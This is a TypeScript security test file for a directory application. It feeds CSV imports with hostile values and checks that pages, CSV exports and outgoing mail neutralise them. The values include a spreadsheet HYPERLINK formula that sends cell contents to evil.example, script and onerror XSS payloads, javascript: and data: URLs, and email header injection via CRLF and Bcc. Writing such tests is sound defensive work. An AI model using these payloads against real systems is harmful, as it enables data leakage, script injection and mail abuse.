import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { SMTPServer } from 'smtp-server'
import { afterAll, expect, test } from 'vitest'
import { importDirectory, tendDirectory } from '#domain/directory'
import { oweLetter, sendLetter } from '#domain/letters'
import { inTransaction } from '#platform/context'
import { csvOf } from '#platform/csv'
import { postBySmtp } from '#platform/mail'
import { directoryIn } from '../support/directory-in.ts'
import { lettersOf, reactToAll } from '../support/introduced.ts'
import { serve } from '../support/served.ts'
import { openWorld } from '../support/world.ts'

const world = await openWorld()
const town = await world.programme({ slug: 'hostile-town' })
const folder = mkdtempSync(join(tmpdir(), 'footbridge-hostile-'))
afterAll(() => rmSync(folder, { recursive: true }))

const FORMULA = `=HYPERLINK("https://evil.example?x="&A1,"Open")`
const SCRIPT = `</script><script>alert(1)</script><img src=x onerror=alert(1)>`
/** Tags are taken out of a description, and codes read, twice: so that it is still there afterwards. */
const WRAPPED = SCRIPT.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;')
const STEERING = `Walks \u001b[2J\u0007\u202e of`
const HEADERS = 'group@example.org\r\nBcc: everybody@example.org'

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`
const table = (columns: string, rows: string[][]) => `${columns}\r\n${rows.map((row) => row.map(cell).join(',')).join('\r\n')}\r\n`
writeFileSync(
  join(folder, 'organizations.csv'),
  table('id,name,description,email,url', [
    ['o1', FORMULA, WRAPPED, HEADERS, 'javascript:alert(1)'],
    ['o2', '+31 20 1234567', STEERING, 'right@example.org', 'https://right.example'],
  ]),
)
writeFileSync(
  join(folder, 'services.csv'),
  table('id,organization_id,name,description,email,url', [
    ['s1', 'o1', SCRIPT, FORMULA, 'one@example.org,two@example.org', 'javascript:alert(1)'],
    [
      's2',
      'o2',
      `${STEERING}\r\nBcc: everybody@example.org`,
      '@SUM(1+1)',
      'bell\u0007@example.org',
      'data:text/html,<script>alert(1)</script>',
    ],
  ]),
)

const { entries, report } = await directoryIn(folder)
await importDirectory(town.system, { source: 'hostile', entries })
const { rows: services } = await world.owner.query<{
  id: string
  source_id: string
  name: string
  email: string | null
  sent_to: string | null
}>(
  `select s.id, s.source_id, s.name, s.email, coalesce(s.email, o.email) as sent_to from service s
  join organisation o on o.programme_id = s.programme_id and o.id = s.organisation_id where s.programme_id = $1 order by s.source_id`,
  [town.programmeId],
)

test('words are kept as they came; what is no one address is none to send to, and the report says where', () => {
  expect(services).toMatchObject([
    { source_id: 's1', name: SCRIPT, email: null, sent_to: null },
    { source_id: 's2', email: null, sent_to: 'right@example.org' },
  ])
  expect(report.notes.filter(({ reason }) => reason === 'bad-email').map(({ file, line }) => `${file}:${line}`)).toEqual([
    'organizations.csv:2',
    'services.csv:2',
    'services.csv:3',
  ])
  expect(entries.organisations[0]!.columns.description).toBe(SCRIPT)
})

test('the public page shows it as text, runs nothing of it and leads nowhere by it', { timeout: 60_000 }, async () => {
  const { origin } = await serve(world)
  for (const { id } of services) {
    const answer = await fetch(`${origin}/p/hostile-town/services/${id}`)
    expect(answer.status).toBe(200)
    const html = await answer.text()
    expect(html).not.toMatch(/<script>alert|<img src=x|(href|src)="?\s*(javascript|data:text)/i)
    expect(answer.headers.get('content-security-policy')).not.toMatch(/script-src[^;]*unsafe-inline/)
  }
})

test('in a table for a spreadsheet no cell of it begins a formula', () => {
  const names = [...entries.organisations, ...entries.services].flatMap(({ columns }) => [columns.name, columns.description])
  const read = parse(csvOf(names.map((name) => [name ?? null])), {
    bom: true,
    record_delimiter: '\r\n',
    skip_empty_lines: false,
  }) as string[][]
  expect(read.map(([only]) => only)).toEqual(names.map((name) => (/^[=+@-]/.test(name ?? '') ? `'${name}` : name)))
  expect(read.filter(([only]) => only?.startsWith("'")).length).toBeGreaterThanOrEqual(3)
})

test('a letter about it goes to one address, and has the headers that we wrote and no other', async () => {
  const received: { head: string; recipients: string[] }[] = []
  const server = new SMTPServer({
    disabledCommands: ['AUTH', 'STARTTLS'],
    onData(stream, session, done) {
      let raw = ''
      stream.on('data', (chunk) => (raw += chunk))
      stream.on('end', () => {
        received.push({ head: raw.split('\r\n\r\n')[0]!, recipients: session.envelope.rcptTo.map((one) => one.address) })
        done()
      })
    },
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  const { port } = server.server.address() as { port: number }
  const mail = postBySmtp(`smtp://127.0.0.1:${port}`, 'Footbridge <no-reply@example.org>', 'https://footbridge.example.org')
  await tendDirectory(town.system)
  await reactToAll(town)
  const owe = (to: string, onceKey: string) =>
    inTransaction(town.system, ({ tx }) => oweLetter(tx, town.system, { onceKey, to, subject: services[1]!.name, body: 'Hello' }))
  expect(await owe('right@example.org', 'hostile:1')).toBe(true)
  for (const [at, to] of [HEADERS, 'one@example.org,two@example.org', 'bell\u0007@example.org', '<a@example.org>'].entries())
    expect(await owe(to, `hostile:no-${at}`)).toBe(false)
  const { rows } = await world.owner.query<{ id: string }>('select id from outgoing_mail where programme_id = $1 and sent_at is null', [
    town.programmeId,
  ])
  for (const { id } of rows) await sendLetter(town.system, id, mail.post, false)
  mail.close()
  await new Promise<void>((done) => server.close(done))
  expect((await lettersOf(town)).length).toBe(rows.length)
  expect(received.length).toBe(rows.length)
  for (const { head, recipients } of received) {
    expect(recipients).toEqual(['right@example.org'])
    expect(head).not.toMatch(/^(b?cc):/im)
    expect(head.match(/^subject:/gim)).toHaveLength(1)
    expect(head).not.toContain('\u001b')
  }
})
